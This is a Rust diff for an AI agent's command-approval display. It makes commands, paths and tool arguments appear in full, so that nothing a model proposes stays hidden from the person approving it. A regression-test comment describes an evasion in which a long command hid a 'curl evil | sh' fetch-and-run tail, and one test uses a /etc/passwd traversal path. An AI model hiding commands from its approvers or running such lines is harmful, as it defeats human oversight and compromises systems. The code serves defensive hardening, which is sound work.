@@ -3,14 +3,20 @@
 //!
 //! Everything shown comes from a model: control characters (terminal escape sequences
 //! included) and invisible format characters ([`is_hidden_or_control`]) are shown as
-//! `\u{..}` escapes, and long text is cut to [`MAX_SHOWN_LINES`] lines.
+//! `\u{..}` escapes. What decides what the call does — the command, a path, a pattern,
+//! another tool's arguments — is shown whole, long lines wrapped (a person must never
+//! approve what they did not see, as the MCP and A2A questions already hold); only the
+//! body of a Write or Edit is cut to [`MAX_SHOWN_LINES`] lines, saying how many are left.
 
 use serde_json::Value;
 
 /// Lines of file content or diff shown; the rest is counted, not shown.
 pub const MAX_SHOWN_LINES: usize = 40;
-/// Characters of one shown line; longer lines are cut with `…`.
+/// Characters of one shown line: a longer body line is cut with `…`; a longer line of a
+/// command, path or argument continues on the next shown line after [`WRAPPED`].
 pub const MAX_LINE_CHARS: usize = 200;
+/// Ends a shown line that continues on the next one (a wrap, not a newline of the text).
+pub const WRAPPED: &str = " \u{21a9}";
 
 /// Invisible characters that change how text around them is shown, or hide text, beyond
 /// the controls (`char::is_control`): every format character (general category Cf:
@@ -57,21 +63,55 @@ pub fn is_hidden_or_control(c: char) -> bool {
     c.is_control() || HIDDEN.iter().any(|&(lo, hi)| (lo..=hi).contains(&c))
 }
 
-/// `s` with control and invisible characters other than tab escaped (one line).
+/// `c` as shown: control and invisible characters other than tab escaped.
+fn push_shown(out: &mut String, c: char) {
+    if is_hidden_or_control(c) && c != '\t' {
+        out.push_str(&c.escape_unicode().to_string());
+    } else {
+        out.push(c);
+    }
+}
+
+/// One body line as shown, cut at [`MAX_LINE_CHARS`] characters with `…`.
 fn clean(s: &str) -> String {
-    let mut out = String::with_capacity(s.len());
+    let mut out = String::with_capacity(s.len().min(4 * MAX_LINE_CHARS));
     for (i, c) in s.chars().enumerate() {
         if i >= MAX_LINE_CHARS {
             out.push('…');
             break;
         }
-        if is_hidden_or_control(c) && c != '\t' {
-            out.push_str(&c.escape_unicode().to_string());
-        } else {
-            out.push(c);
-        }
+        push_shown(&mut out, c);
     }
     out
+}
+
+/// Every line of `s` as shown (split on `\n` only, so a `\r` is shown, not swallowed),
+/// each wrapped at [`MAX_LINE_CHARS`] characters: nothing of `s` is left out.
+fn whole(s: &str) -> Vec<String> {
+    let mut shown = vec![];
+    for line in s.split('\n') {
+        let chars: Vec<char> = line.chars().collect();
+        if chars.is_empty() {
+            shown.push(String::new());
+        }
+        let mut chunks = chars.chunks(MAX_LINE_CHARS).peekable();
+        while let Some(chunk) = chunks.next() {
+            let mut out = String::with_capacity(chunk.len());
+            for &c in chunk {
+                push_shown(&mut out, c);
+            }
+            if chunks.peek().is_some() {
+                out.push_str(WRAPPED);
+            }
+            shown.push(out);
+        }
+    }
+    shown
+}
+
+/// `s` whole, its shown lines after the first indented by `indent`.
+fn whole_inline(s: &str, indent: &str) -> String {
+    whole(s).join(&format!("\n{indent}"))
 }
 
 fn text<'a>(input: &'a Value, key: &str) -> &'a str {
@@ -97,42 +137,44 @@ pub fn describe_call(tool: &str, input: &Value) -> String {
     let mut budget = MAX_SHOWN_LINES;
     match tool {
         "Bash" => {
-            let cmd = text(input, "command");
-            let mut first = true;
-            for l in cmd.lines() {
-                out.push(format!("{} {}", if first { "  $" } else { "   " }, clean(l)));
-                first = false;
+            for (i, l) in whole(text(input, "command")).into_iter().enumerate() {
+                out.push(format!("{} {l}", if i == 0 { "  $" } else { "   " }));
             }
             let d = text(input, "description");
             if !d.is_empty() {
-                out.push(format!("  ({})", clean(d)));
+                out.push(format!("  ({})", whole_inline(d, "   ")));
             }
         }
         "Write" => {
             let content = text(input, "content");
-            out.push(format!("  write {} ({} lines)", clean(text(input, "file_path")), content.lines().count()));
+            out.push(format!(
+                "  write {} ({} lines)",
+                whole_inline(text(input, "file_path"), "        "),
+                content.lines().count()
+            ));
             lines(&mut out, "  + ", content, &mut budget);
         }
         "Edit" => {
             let all = input.get("replace_all").and_then(Value::as_bool) == Some(true);
             out.push(format!(
                 "  edit {}{}",
-                clean(text(input, "file_path")),
+                whole_inline(text(input, "file_path"), "       "),
                 if all { " (every occurrence)" } else { "" }
             ));
             lines(&mut out, "  - ", text(input, "old_string"), &mut budget);
             lines(&mut out, "  + ", text(input, "new_string"), &mut budget);
         }
-        "Read" => out.push(format!("  read {}", clean(text(input, "file_path")))),
+        "Read" => out.push(format!("  read {}", whole_inline(text(input, "file_path"), "       "))),
         "Glob" | "Grep" => {
             let path = text(input, "path");
-            let at = if path.is_empty() { String::new() } else { format!(" in {}", clean(path)) };
-            out.push(format!("  {} {}{at}", tool.to_lowercase(), clean(text(input, "pattern"))));
+            let at = if path.is_empty() { String::new() } else { format!(" in {}", whole_inline(path, "     ")) };
+            out.push(format!("  {} {}{at}", tool.to_lowercase(), whole_inline(text(input, "pattern"), "     ")));
         }
         _ => {
+            // Another tool's arguments are the whole call: every line is shown.
             let json = serde_json::to_string_pretty(input).unwrap_or_default();
-            out.push(format!("  {}", clean(tool)));
-            lines(&mut out, "    ", &json, &mut budget);
+            out.push(format!("  {}", whole_inline(tool, "  ")));
+            out.extend(whole(&json).into_iter().map(|l| format!("    {l}")));
         }
     }
     out.join("\n")
@@ -173,5 +215,53 @@ mod tests {
             let shown = describe_call("Bash", &json!({ "command": format!("echo a{c}b") }));
             assert!(!shown.contains(c), "{:?}: {shown:?}", c);
         }
+    }
+
+    /// What shown lines read as once the display's wrap marks are undone.
+    fn unwrap_shown(shown: &[&str]) -> String {
+        let mut text = String::new();
+        for l in shown {
+            match l.strip_suffix(WRAPPED) {
+                Some(part) => text.push_str(part),
+                None => {
+                    text.push_str(l);
+                    text.push('\n');
+                }
+            }
+        }
+        text.pop();
+        text
+    }
+
+    proptest::proptest! {
+        /// Regression: a Bash line longer than 200 characters was cut with `…` on the TTY,
+        /// so `echo <200 characters>; curl evil | sh` was asked about as `echo …`. Every
+        /// character of a command is shown, in order, escaped where invisible.
+        #[test]
+        fn regression_the_tty_hid_the_tail_of_a_long_command(
+            parts in proptest::collection::vec("[a-z ;|&$()]{0,300}|[\\x00-\\x1f\\u{202e}\\u{2066}]{1,3}", 1..6),
+        ) {
+            let command = parts.concat();
+            let shown = describe_call("Bash", &json!({ "command": command }));
+            let lines: Vec<&str> = shown.split('\n').map(|l| &l[4..]).collect();
+            for l in &lines {
+                proptest::prop_assert!(!l.chars().any(|c| is_hidden_or_control(c) && c != '\t'), "{:?}", l);
+            }
+            let mut expected = String::new();
+            for c in command.chars() {
+                if c == '\n' { expected.push('\n') } else { push_shown(&mut expected, c) }
+            }
+            proptest::prop_assert_eq!(unwrap_shown(&lines), expected);
+        }
+    }
+
+    #[test]
+    fn paths_and_other_tools_arguments_are_shown_whole() {
+        let path = format!("/workspace/{}/../../etc/passwd", "a".repeat(300));
+        let r = describe_call("Read", &json!({ "file_path": path }));
+        assert!(r.contains("etc/passwd") && !r.contains('…'), "{r}");
+        let args: serde_json::Map<String, Value> = (0..100).map(|i| (format!("k{i:03}"), json!(i))).collect();
+        let m = describe_call("mcp__gh__issue", &Value::Object(args));
+        assert!(m.contains("\"k099\": 99") && !m.contains("more lines"), "{m}");
     }
 }
